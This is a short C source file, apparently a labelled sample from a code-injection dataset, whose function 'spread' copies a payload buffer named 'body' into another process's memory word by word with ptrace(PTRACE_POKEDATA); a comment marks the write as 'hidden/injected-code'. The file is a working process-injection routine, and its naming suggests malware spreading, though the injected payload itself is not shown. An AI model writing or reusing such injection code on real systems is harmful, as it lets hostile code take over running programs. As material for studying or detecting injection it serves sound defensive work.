#include "body.h"

#include <stdint.h>
#include <string.h>
#include <sys/ptrace.h>

static long put(int pid, uintptr_t at, long word) {
    // report@+1: hidden/injected-code
    return ptrace(PTRACE_POKEDATA, pid, (void *)at, (void *)word);
}

long spread(int pid, uintptr_t at) {
    long word, all = 0;
    for (unsigned i = 0; i < BODY_SIZE; i += sizeof word) {
        memcpy(&word, body + i, sizeof word);
        all |= put(pid, at + i, word);
    }
    return all;
}
